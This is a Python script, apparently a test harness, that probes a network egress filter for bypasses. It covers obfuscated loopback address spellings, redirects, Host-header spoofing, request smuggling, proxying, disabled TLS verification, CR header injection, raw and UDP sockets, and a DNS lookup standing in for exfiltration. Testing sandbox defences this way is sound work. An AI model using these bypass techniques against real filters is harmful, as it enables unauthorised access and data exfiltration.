"""Ways around the rules. Arguments: allowed HTTP and HTTPS base URLs, forbidden base URL."""

from __future__ import annotations

import http.client
import socket
import ssl
import sys
import urllib.parse
import urllib.request

import requests
from report import attempt

HTTP, HTTPS, FORBIDDEN = sys.argv[1:4]
PORT = urllib.parse.urlsplit(FORBIDDEN).port
# Other spellings of a loopback address, which some resolvers understand.
SPELLINGS = (
    "127.1",
    "2130706433",
    "0x7f000001",
    "0177.0.0.1",
    "127.000.000.001",
    "0.0.0.0",
    "[::ffff:127.0.0.1]",
    "[::1]",
    "[0:0:0:0:0:ffff:7f00:1]",
    "localhost",
    "localhost.",
    "LOCALHOST",
    "127.0.0.1.",
    "%6cocalhost",
    "\u2460\u2461\u2466.0.0.1",
    "allowed@127.0.0.1",
    "127.0.0.1\u3002",
)


def get(url: str, context: ssl.SSLContext | None = None) -> object:
    request = urllib.request.Request(url)
    with urllib.request.urlopen(request, timeout=20, context=context) as response:
        return response.status


def other_host_field() -> object:
    request = urllib.request.Request(HTTP + "/fronted", headers={"Host": "other.test"})
    return urllib.request.urlopen(request).status


def method(name: str) -> object:
    parts = urllib.parse.urlsplit(HTTP)
    connection = http.client.HTTPConnection(str(parts.hostname), parts.port, timeout=20)
    try:
        connection.request(name, "/method")
        return connection.getresponse().status
    finally:
        connection.close()


def full_target() -> object:
    """Send a request line with a whole URL, as to a proxy."""
    parts = urllib.parse.urlsplit(HTTP)
    connection = http.client.HTTPConnection(str(parts.hostname), parts.port, timeout=20)
    try:
        connection.request("GET", FORBIDDEN + "/full")
        return connection.getresponse().status
    finally:
        connection.close()


def second_request_to_another_host() -> object:
    parts = urllib.parse.urlsplit(HTTP)
    with socket.create_connection((parts.hostname, parts.port), timeout=20) as sock:
        sock.sendall(b"GET /get HTTP/1.1\r\nHost: %b\r\n\r\n" % parts.netloc.encode())
        first = sock.recv(1 << 16)
        sock.sendall(b"GET /smuggled HTTP/1.1\r\nHost: other.test\r\n\r\n")
        return [first[:12].decode(), sock.recv(12).decode()]


def proxy() -> object:
    handler = urllib.request.ProxyHandler({"http": FORBIDDEN})
    return urllib.request.build_opener(handler).open(HTTP + "/proxied", timeout=20).status


def without_verification() -> object:
    return get(HTTPS + "/unverified", context=ssl._create_unverified_context())


def injected_field() -> object:
    """Without http.client's own check, a line break in a value must not become a field."""
    parts = urllib.parse.urlsplit(HTTP)
    connection = http.client.HTTPConnection(str(parts.hostname), parts.port, timeout=20)
    connection.putrequest("GET", "/injected")
    connection._buffer.append(b"X-One: 1\rX-Two: 2")  # type: ignore[attr-defined]
    connection.endheaders()
    try:
        return connection.getresponse().status
    finally:
        connection.close()


def other_sockets() -> object:
    """Kinds of sockets without HTTP, and the result of each."""
    found = {}
    address = (str(urllib.parse.urlsplit(FORBIDDEN).hostname), PORT)
    for kind in ("SOCK_DGRAM", "SOCK_RAW"):
        try:
            sock = socket.socket(socket.AF_INET, getattr(socket, kind))
            sock.connect(address)
            sock.send(b"datagram")
            found[kind] = "sent"
        except (AttributeError, OSError, ValueError) as error:
            found[kind] = type(error).__name__
    try:
        listener = socket.socket()
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        found["listen"] = "listening"
    except OSError as error:
        found["listen"] = type(error).__name__
    return found


attempt("allowed", lambda: [get(HTTP + "/get"), get(HTTPS + "/get")])
for spelling in SPELLINGS:
    attempt(f"spelling {spelling}", get, f"http://{spelling}:{PORT}/")
attempt("redirect", get, f"{HTTP}/redirect/302?to={urllib.parse.quote(FORBIDDEN, '')}")
attempt("another Host field", other_host_field)
attempt("TRACE", method, "TRACE")
attempt("CONNECT", method, "CONNECT")
attempt("full target", full_target)
attempt("second request to another host", second_request_to_another_host)
attempt("proxy", proxy)
attempt("no verification, urllib", without_verification)
attempt("no verification, requests", lambda: requests.get(HTTPS + "/unverified", verify=False).ok)
attempt("injected field", injected_field)
attempt("other sockets", other_sockets)
attempt("name lookup", lambda: len(socket.getaddrinfo("secret.exfiltrated.test", 80)) > 0)
attempt("reverse lookup", socket.gethostbyaddr, "192.0.2.1")
attempt("allowed at the end", lambda: [get(HTTP + "/get"), get(HTTPS + "/get")])
